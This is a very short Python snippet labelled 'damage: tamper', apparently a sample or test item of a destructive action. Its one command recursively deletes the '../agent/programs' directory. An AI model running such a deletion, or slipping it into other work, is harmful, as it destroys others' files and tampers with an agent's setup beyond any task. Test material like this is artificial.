# What the agent directory keeps.
# damage: tamper
import shutil

shutil.rmtree("../agent/programs")
